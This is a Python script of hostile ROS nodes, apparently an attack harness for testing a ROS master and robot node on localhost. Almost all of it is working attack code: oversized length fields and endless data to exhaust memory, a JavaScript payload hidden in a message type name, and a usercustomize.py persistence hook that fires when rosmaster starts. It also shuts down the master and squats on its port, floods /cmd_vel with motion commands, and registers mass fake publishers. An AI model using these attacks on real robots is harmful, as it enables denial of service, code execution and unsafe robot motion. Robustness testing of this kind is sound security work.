#!/usr/bin/env python3
"""Nodes of a graph as nobody should make them. Each attack says that it is over, and stays."""
import os, site, socket, struct, sys, threading, time
from xmlrpc.client import ServerProxy
from xmlrpc.server import SimpleXMLRPCServer

MASTER = 'http://127.0.0.1:11311'
ME = '/hostile'
ENDLESS = 1_500_000_000
PIECE = b'x' * 1_048_576
HELD = []


def header(**fields):
    told = [f'{key}={value}'.encode() for key, value in fields.items()]
    told = b''.join(struct.pack('<I', len(field)) + field for field in told)
    return struct.pack('<I', len(told)) + told


def pour(connection, size=ENDLESS):
    """As much as the other end takes; it may hang up at any time."""
    try:
        for _ in range(size // len(PIECE)):
            connection.sendall(PIECE)
    except OSError:
        pass


def serve(handle):
    """A port whose callers are handled one after the other, and an event that the first one has been."""
    listener = socket.create_server(('127.0.0.1', 0))
    done = threading.Event()

    def accept():
        while True:
            connection, _ = listener.accept()
            handle(connection)
            connection.close()
            done.set()

    threading.Thread(target=accept, daemon=True).start()
    return listener.getsockname()[1], done


def publish(topic, kind, handle):
    """A node whose connections are handled so, known to the master as one that publishes the topic."""
    port, done = serve(handle)
    slave = SimpleXMLRPCServer(('127.0.0.1', 0), logRequests=False, allow_none=True)
    slave.register_function(lambda *_: (1, '', ['TCPROS', '127.0.0.1', port]), 'requestTopic')
    slave.register_function(lambda *_: (1, '', 0), 'publisherUpdate')
    threading.Thread(target=slave.serve_forever, daemon=True).start()
    ServerProxy(MASTER).registerPublisher(ME, topic, kind, f'http://127.0.0.1:{slave.server_address[1]}/')
    return done


def twist(**fields):
    return header(callerid=ME, type='geometry_msgs/Twist', md5sum='9f195f881246fdfa2798d1d3eebca84a', **fields)


def long_message():
    def handle(connection):
        connection.sendall(twist(message_definition='float64 x') + struct.pack('<I', 999_999_999))
        pour(connection)

    publish('/cmd_vel', 'geometry_msgs/Twist', handle).wait()


def long_introduction():
    def handle(connection):
        connection.sendall(struct.pack('<I', 999_999_999))
        pour(connection)

    publish('/cmd_vel', 'geometry_msgs/Twist', handle).wait()


def own_description():
    """Four thousand million things of no bytes each."""
    def handle(connection):
        things = '\n'.join(['Nothing[] all', '=' * 80, 'MSG: hostile/Nothing', 'uint8 NONE=0'])
        connection.sendall(twist(message_definition=things))
        connection.sendall(struct.pack('<I', 48) + struct.pack('<I', 0xFFFFFFFF) + bytes(44))
        connection.settimeout(2)
        try:
            connection.recv(1)
            connection.recv(65536)
            connection.recv(1)
        except OSError:
            pass

    publish('/cmd_vel', 'geometry_msgs/Twist', handle).wait()


def code_as_description():
    """A type called as a piece of JavaScript, which whoever makes a program of the description would run."""
    code = r"process.getBuiltinModule('fs').writeFileSync('\x2fws\x2fescaped','')"
    description = f'uint8 a\n====\nMSG: prototype[{code}]\nuint8 b'

    def handle(connection):
        connection.sendall(header(callerid=ME, type='hostile/Trap', md5sum='*', message_definition=description))
        connection.settimeout(2)
        try:
            while connection.recv(65536):
                pass
        except OSError:
            pass

    publish('/trap', 'hostile/Trap', handle).wait()


def code_beside_python():
    """What every Python of this user runs first, left where the next master would find it."""
    packages = site.getusersitepackages()
    os.makedirs(packages, exist_ok=True)
    with open(os.path.join(packages, 'usercustomize.py'), 'w') as customize:
        customize.write("if 'rosmaster' in open('/proc/self/cmdline').read(): open('/ws/escaped', 'w')\n")
    end_master()


def endless_answer():
    """A publisher that answers the question for its port without end."""
    def handle(connection):
        connection.recv(65536)
        connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n<?xml version="1.0"?><methodResponse>')
        pour(connection)

    port, done = serve(handle)
    ServerProxy(MASTER).registerPublisher(ME, '/cmd_vel', 'geometry_msgs/Twist', f'http://127.0.0.1:{port}/')
    done.wait()


def robot_address():
    return ServerProxy(MASTER).lookupNode(ME, '/robot')[2].removeprefix('http://').rstrip('/').split(':')


def long_call():
    host, port = robot_address()
    with socket.create_connection((host, int(port))) as connection:
        connection.sendall(f'POST / HTTP/1.1\r\nHost: robot\r\nContent-Length: {ENDLESS}\r\n\r\n'.encode())
        pour(connection)


def long_subscription():
    host, port = robot_address()
    _, _, (_, host, port) = ServerProxy(f'http://{host}:{port}').requestTopic(ME, '/scan', [['TCPROS']])
    with socket.create_connection((host, port)) as connection:
        connection.sendall(struct.pack('<I', 999_999_999))
        pour(connection)


def many_publishers():
    host, port = robot_address()
    robot = ServerProxy(f'http://{host}:{port}')
    try:
        for first in range(0, 200_000, 10_000):
            robot.publisherUpdate(ME, '/cmd_vel', [f'http://127.0.0.1:1/{each}' for each in range(first, first + 10_000)])
    except Exception:
        pass


def flood():
    """As many commands as the robot takes, for as long as the program runs."""
    command = struct.pack('<I', 48) + bytes(48)

    def handle(connection):
        connection.sendall(twist(message_definition='float64 x') + command)
        threading.Thread(target=pour_commands, args=[connection.dup()], daemon=True).start()

    def pour_commands(connection):
        try:
            while True:
                connection.sendall(command * 1000)
        except OSError:
            pass

    publish('/cmd_vel', 'geometry_msgs/Twist', handle).wait()


def false_master():
    """Sits on the port of the master before another is started, and answers without end whatever it is asked."""
    answer_as_master(0)


def late_false_master():
    """The same, when another master is started already and has not come to its port yet: it takes half a second."""
    answer_as_master(0.4)


def answer_as_master(delay):
    listener = None
    while listener is None:
        end_master()
        time.sleep(delay)
        listener = take_port()
    connection, _ = listener.accept()
    connection.recv(65536)
    connection.sendall(b'HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n<?xml version="1.0"?><methodResponse>')
    pour(connection)
    # The port stays taken, and whoever asks there waits.
    HELD.append(listener)


def end_master():
    """One that ends while it is told, or has ended, does not answer."""
    socket.setdefaulttimeout(5)
    try:
        ServerProxy(MASTER).shutdown(ME, 'mine now')
    except Exception:
        pass
    socket.setdefaulttimeout(None)


def take_port():
    """Not where the next master was quicker."""
    for _ in range(100):
        try:
            listener = socket.socket()
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            listener.bind(('127.0.0.1', 11311))
            listener.listen()
            return listener
        except OSError:
            time.sleep(0.01)


if __name__ == '__main__':
    globals()[sys.argv[1]]()
    print('done', flush=True)
    time.sleep(600)
